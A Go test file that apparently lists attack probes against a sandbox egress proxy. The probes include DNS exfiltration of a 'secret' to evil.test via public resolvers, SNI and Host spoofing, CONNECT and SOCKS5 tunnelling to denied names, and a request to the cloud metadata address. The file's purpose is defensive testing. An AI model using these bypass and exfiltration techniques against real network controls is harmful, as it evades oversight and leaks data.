package attack

// names are ways through the proxy: names, resolvers, and what disagrees about them. The policy allows good.test by TLS and HTTP and ssh.good.test by
// SSH, and denies bad.good.test.
var names = []Attack{
	{ID: "dns.dot", Tries: "use DNS over TLS", Wall: Network, Invariant: "I3", Source: "RFC 7858", Try: "tcp 8.8.8.8:853 hello", Down: Outside, Shows: Internet, At: 1000},
	{ID: "dns.doh", Tries: "use DNS over HTTPS", Wall: Network, Invariant: "I3", Source: "RFC 8484", Try: "https 1.1.1.1:443 one.one.one.one", Down: Outside, Shows: Internet, At: 1000},
	{ID: "dns.secret", Tries: "tell a resolver a secret", Wall: Network, Invariant: "I3", Source: "DNS exfiltration", Try: "dns secret.evil.test 8.8.8.8:53 TXT", Down: Outside, Shows: Internet, At: 1000},
	{ID: "dns.secret-tcp", Tries: "tell a resolver a secret over TCP", Wall: Network, Invariant: "I3", Source: "RFC 7766", Try: "dns secret.evil.test 8.8.8.8:53 TXT tcp", Down: Outside, Shows: Internet, At: 1000},
	{ID: "dns.secret-ipv6", Tries: "tell a resolver a secret over IPv6", Wall: Network, Invariant: "I3", Source: "DNS exfiltration", Try: "dns secret.evil.test [2001:4860:4860::8888]:53 TXT", Down: Outside, Shows: Internet, At: 1000},
	{ID: "dns.secret-allowed", Tries: "tell the authority of an allowed name a secret", Wall: Network, Invariant: "I3", Source: "DNS exfiltration", Try: "dns secret.good.test - TXT", Down: Outside, Shows: Internet, At: 1000},
	{ID: "dns.allowed", Tries: "make a resolver ask for an allowed name", Wall: Network, Invariant: "I3", Source: "DNS exfiltration", Try: "dns good.test 8.8.8.8:53 A", Down: Outside, Shows: Internet, Answered: true},

	{ID: "name.denied", Tries: "reach a denied name below an allowed one", Wall: Network, Invariant: "I2", Source: "policy", Try: "https bad.good.test:443 bad.good.test", Down: Permitted, Shows: Internet},
	{ID: "name.unknown", Tries: "reach a name that no rule mentions", Wall: Network, Invariant: "I2", Source: "policy", Try: "https evil.test:443 evil.test", Down: Permitted, Shows: Internet},
	{ID: "name.below", Tries: "reach a name below an allowed one", Wall: Network, Invariant: "I2", Source: "policy", Try: "https www.good.test:443 www.good.test", Down: Permitted, Shows: Internet},
	{ID: "name.port", Tries: "reach an allowed name on another port", Wall: Network, Invariant: "I2", Source: "policy", Try: "https good.test:8443 good.test", Down: Permitted, Shows: Internet},
	{ID: "name.port-http", Tries: "reach an allowed name by HTTP on another port", Wall: Network, Invariant: "I2", Source: "policy", Try: "http good.test:8080 good.test", Down: Permitted, Shows: Internet},
	{ID: "name.address-sni", Tries: "reach an address with a denied server name", Wall: Network, Invariant: "I2", Source: "RFC 6066, 3", Try: "https 45.67.89.66:443 evil.test", Down: Permitted, Shows: Internet},
	{ID: "name.sni", Tries: "send another server name to an allowed name", Wall: Network, Invariant: "I2", Source: "RFC 6066, 3", Try: "https good.test:443 evil.test", Down: Outside, Shows: Internet},
	{ID: "name.no-sni", Tries: "send no server name to an allowed name", Wall: Network, Invariant: "I2", Source: "RFC 6066, 3", Try: "https good.test:443 -", Down: Outside, Shows: Internet},
	{ID: "name.host", Tries: "send another Host to an allowed name", Wall: Network, Invariant: "I2", Source: "RFC 9110, 7.2", Try: "http good.test:80 evil.test", Down: Outside, Shows: Internet},
	{ID: "name.protocol", Tries: "send something else than TLS to a TLS port", Wall: Network, Invariant: "I2", Source: "policy", Try: "tcp good.test:443 SSH-2.0-probe\r\n", Control: []string{"https good.test:443 good.test"}, Down: Outside, Shows: Internet},
	{ID: "name.dot-proxy", Tries: "use DNS over TLS with a server name", Wall: Network, Invariant: "I3", Source: "RFC 7858", Try: "https 8.8.8.8:853 dns.google", Control: []string{"https 8.8.8.8:443 dns.google"}, Down: Outside, Shows: Internet},
	{ID: "name.doh-proxy", Tries: "use DNS over HTTPS by the resolver's name", Wall: Network, Invariant: "I3", Source: "RFC 8484", Try: "https 8.8.8.8:443 dns.google", Down: Outside, Shows: Internet},

	{ID: "proxy.connect", Tries: "reach a denied name by CONNECT", Wall: Network, Invariant: "I2", Source: "RFC 9110, 9.3.6", Try: "https-via http://10.200.0.1:3128 evil.test:443 evil.test", Down: Permitted, Shows: Internet},
	{ID: "proxy.listener", Tries: "connect to where the proxy listens", Wall: Network, Invariant: "I5", Source: "ARCHITECTURE.md", Try: "tcp 10.200.0.1:15001 hello", Control: []string{"tcp 45.67.89.66:5432 hello"}, Down: Outside, Shows: Internet, At: 1000},
	{ID: "proxy.socks", Tries: "reach a denied name by SOCKS5", Wall: Network, Invariant: "I2", Source: "RFC 1928", Try: "https-via socks5://10.200.0.1:1080 evil.test:443 evil.test", Down: Permitted, Shows: Internet},
	{ID: "proxy.absolute", Tries: "reach a denied name by an absolute target", Wall: Network, Invariant: "I2", Source: "RFC 9112, 3.2.2", Try: "http 10.200.0.1:3128 good.test GET http://evil.test/", Control: []string{"http 10.200.0.1:3128 evil.test GET http://evil.test/"}, Down: Permitted, Shows: Internet},
	{
		ID: "proxy.connect-sni", Tries: "send another server name in CONNECT", Wall: Network, Invariant: "I2", Source: "RFC 6066, 3", Try: "https-via http://10.200.0.1:3128 good.test:443 evil.test",
		Control: []string{"https-via http://10.200.0.1:3128 evil.test:443 evil.test"}, Down: Permitted, Shows: Internet,
	},
	{
		ID: "proxy.socks-sni", Tries: "send another server name in SOCKS5", Wall: Network, Invariant: "I2", Source: "RFC 6066, 3", Try: "https-via socks5://10.200.0.1:1080 good.test:443 evil.test",
		Control: []string{"https-via socks5://10.200.0.1:1080 evil.test:443 evil.test"}, Down: Permitted, Shows: Internet,
	},
	{
		ID: "proxy.connect-raw", Tries: "send something else than TLS in CONNECT", Wall: Network, Invariant: "I2", Source: "RFC 9110, 9.3.6", Try: "tcp-via http://10.200.0.1:3128 good.test:443 SSH-2.0-probe\r\n",
		Control: []string{"tcp-via http://10.200.0.1:3128 ssh.good.test:22 SSH-2.0-probe\r\n"}, Down: Permitted, Shows: Internet,
	},
	{
		ID: "proxy.socks-address", Tries: "reach an address by SOCKS5", Wall: Network, Invariant: "I2", Source: "RFC 1928", Try: "https-via socks5://10.200.0.1:1080 45.67.89.66:443 -",
		Control: []string{"https-via socks5://10.200.0.1:1080 45.67.89.66:443 evil.test"}, Down: Permitted, Shows: Internet,
	},
	{
		ID: "proxy.connect-metadata", Tries: "reach the metadata service by CONNECT", Wall: Network, Invariant: "I2", Source: "server-side request forgery", Try: "tcp-via http://10.200.0.1:3128 169.254.169.254:80 x",
		Control: []string{"tcp-via http://10.200.0.1:3128 ssh.good.test:22 SSH-2.0-probe\r\n"}, Down: Permitted, Shows: Internet,
	},
}
